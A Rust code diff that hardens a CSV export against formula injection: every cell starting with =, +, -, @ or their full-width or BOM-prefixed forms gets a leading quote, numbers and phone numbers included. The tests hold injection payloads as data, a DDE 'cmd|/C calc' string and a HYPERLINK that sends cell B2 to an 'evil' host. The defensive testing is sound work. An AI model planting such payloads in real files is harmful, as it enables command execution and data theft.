@@ -81,66 +81,32 @@ fn push_cell(out: &mut String, cell: &str) {
 
 /// The cell as a spreadsheet may show it but never run it (OWASP's CSV
 /// injection advice): a cell that starts with `=`, `+`, `-`, `@`, a tab or
-/// a carriage return, or with any whitespace and then `=`, `+`, `-` or
-/// `@`, gets a leading `'`. Left as they are, because a spreadsheet can
-/// only read them as a number (no function, no reference, no link): a
-/// plain decimal number (`-12.5`, `+3`) and an international phone number
-/// (`+33 1 23 45 67 89`, `+1 (555) 010-0199`), see
-/// [`is_plain_number`] and [`is_phone_number`].
+/// a carriage return gets a leading `'`, and so does one that does once
+/// its byte order marks and whitespace are set aside and its full-width
+/// forms folded (`＝1+1`, `\u{feff}=1+1`, ` @A1`). Every such cell, a
+/// number or a phone number too: `+1-2-3` reads as a phone number to
+/// people and as -4 to a spreadsheet. (The JSON download keeps every
+/// value as it is.)
 pub fn defuse_formula(cell: &str) -> std::borrow::Cow<'_, str> {
-    let starts_formula = match cell.chars().next() {
-        Some('=' | '+' | '-' | '@' | '\t' | '\r') => true,
-        Some(c) if c.is_whitespace() => cell.trim_start().starts_with(['=', '+', '-', '@']),
-        _ => false,
-    };
-    if starts_formula && !is_plain_number(cell) && !is_phone_number(cell) {
+    let starts_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+        || cell
+            .chars()
+            .find(|c| *c != '\u{feff}' && !c.is_whitespace())
+            .map(fold_width)
+            .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@'));
+    if starts_formula {
         std::borrow::Cow::Owned(format!("'{cell}"))
     } else {
         std::borrow::Cow::Borrowed(cell)
     }
 }
 
-/// An optional sign, ASCII digits, and an optional `.` with more digits:
-/// `-12.5`, `+3`, `42`. Nothing else (no spaces, exponent or grouping).
-pub fn is_plain_number(cell: &str) -> bool {
-    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
-    let (whole, fraction) = match unsigned.split_once('.') {
-        Some((whole, fraction)) => (whole, Some(fraction)),
-        None => (unsigned, None),
-    };
-    all_digits(whole) && fraction.is_none_or(all_digits)
-}
-
-/// `+`, then groups of ASCII digits — each group may be in parentheses —
-/// separated by one space, `.` or `-`; 3 to 20 digits in all, at most 32
-/// characters: `+33 1 23 45 67 89`, `+33 (0)1 23 45 67 89`,
-/// `+1 (555) 010-0199`, `+44.20.7946.0958`.
-pub fn is_phone_number(cell: &str) -> bool {
-    let Some(rest) = cell.strip_prefix('+') else {
-        return false;
-    };
-    let digit_count = rest.bytes().filter(u8::is_ascii_digit).count();
-    if cell.len() > 32 || !(3..=20).contains(&digit_count) {
-        return false;
+/// A full-width form (U+FF01 to U+FF5E) as its ASCII character.
+fn fold_width(c: char) -> char {
+    match u32::from(c) {
+        code @ 0xFF01..=0xFF5E => char::from_u32(code - 0xFF01 + 0x21).unwrap_or(c),
+        _ => c,
     }
-    let mut groups = rest.split([' ', '.', '-']);
-    // The first group sits right after `+`, without parentheses.
-    groups.next().is_some_and(all_digits) && groups.all(phone_group)
-}
-
-/// `123`, `(0)1`, `(555)`: digits, after an optional parenthesised group.
-fn phone_group(group: &str) -> bool {
-    match group.strip_prefix('(') {
-        Some(open) => match open.split_once(')') {
-            Some((inside, after)) => all_digits(inside) && (after.is_empty() || all_digits(after)),
-            None => false,
-        },
-        None => all_digits(group),
-    }
-}
-
-fn all_digits(text: &str) -> bool {
-    !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit())
 }
 
 /// The referrals as a JSON array, as the export holds them.
@@ -182,7 +148,7 @@ mod tests {
         assert!(lines[0].starts_with("\u{feff}Referral ID,Business profile ID,"));
         assert_eq!(
             lines[1],
-            "r1,,\"Dupont, \"\"SA\"\"\",,,+33 1 23,\"'=HYPERLINK(\"\"x\"\")\",new,2016-01-15,,"
+            "r1,,\"Dupont, \"\"SA\"\"\",,,'+33 1 23,\"'=HYPERLINK(\"\"x\"\")\",new,2016-01-15,,"
         );
         assert_eq!(lines.len(), 3, "header, one row, and the final CRLF");
     }
@@ -218,36 +184,26 @@ mod tests {
             (" +1+cmd|' /C calc'!A0", "' +1+cmd|' /C calc'!A0"),
             ("\n-1+A1", "'\n-1+A1"),
             ("\u{a0}@A1", "'\u{a0}@A1"),
-            // A phone number or a number padded with spaces is no longer
-            // one of the strict shapes.
+            // Numbers and phone numbers too: a spreadsheet computes them.
+            ("+1-2-3", "'+1-2-3"),
             (" +33 1 23 45 67 89", "' +33 1 23 45 67 89"),
-            // Phone-like but not: too few digits, letters, doubled
-            // separators, an unclosed parenthesis, too long.
-            ("+1-2", "'+1-2"),
-            ("+33 1 A3", "'+33 1 A3"),
-            ("+33  1 23 45", "'+33  1 23 45"),
-            ("+33 (0 1 23 45", "'+33 (0 1 23 45"),
-            ("+(33) 1 23 45", "'+(33) 1 23 45"),
-            (
-                "+1 234 567 890 123 456 789 012",
-                "'+1 234 567 890 123 456 789 012",
-            ),
-            // Number-like but not: exponent, two dots, no digits.
-            ("-1e5", "'-1e5"),
-            ("-1.2.3", "'-1.2.3"),
+            ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
+            ("+1 (555) 010-0199", "'+1 (555) 010-0199"),
+            ("-12.5", "'-12.5"),
+            ("+3", "'+3"),
             ("-", "'-"),
-            ("+", "'+"),
-            ("-.5", "'-.5"),
+            // After a byte order mark, or in full-width forms.
+            ("\u{feff}=1+1", "'\u{feff}=1+1"),
+            ("\u{feff} +A1", "'\u{feff} +A1"),
+            ("＝1+1", "'＝1+1"),
+            ("＋A1", "'＋A1"),
+            ("－1+A1", "'－1+A1"),
+            ("＠SUM(A1)", "'＠SUM(A1)"),
+            ("\u{3000}＝1", "'\u{3000}＝1"),
             // Readable as they are.
-            ("+33 1 23 45 67 89", "+33 1 23 45 67 89"),
-            ("+33 (0)1 23 45 67 89", "+33 (0)1 23 45 67 89"),
-            ("+1 (555) 010-0199", "+1 (555) 010-0199"),
-            ("+44.20.7946.0958", "+44.20.7946.0958"),
-            ("+3312345678", "+3312345678"),
-            ("-12.5", "-12.5"),
-            ("-12", "-12"),
-            ("+3", "+3"),
             ("12.5", "12.5"),
+            ("３３", "３３"),
+            ("\u{feff}Dupont", "\u{feff}Dupont"),
             ("Dupont SA", "Dupont SA"),
             ("a=b", "a=b"),
             ("", ""),
@@ -270,8 +226,8 @@ mod tests {
         let row = csv.split("\r\n").nth(1).unwrap_or_default();
         assert_eq!(
             row,
-            "r1,,'+1+cmd|' /C calc'!A0,' =1+1,,+33 1 23 45 67 89,\
-             \"'-1+HYPERLINK(\"\"https://evil/?\"\"&B2,\"\"open\"\")\",new,2016-01-15,-12.5,EUR"
+            "r1,,'+1+cmd|' /C calc'!A0,' =1+1,,'+33 1 23 45 67 89,\
+             \"'-1+HYPERLINK(\"\"https://evil/?\"\"&B2,\"\"open\"\")\",new,2016-01-15,'-12.5,EUR"
         );
         Ok(())
     }
@@ -282,7 +238,7 @@ mod tests {
         let row = csv.split("\r\n").nth(1).unwrap_or_default();
         assert_eq!(
             row,
-            "r1,,\"Dupont;=1+1\",,,+33 1 23,\"tab\there\",new,2016-01-15,,"
+            "r1,,\"Dupont;=1+1\",,,'+33 1 23,\"tab\there\",new,2016-01-15,,"
         );
     }
 
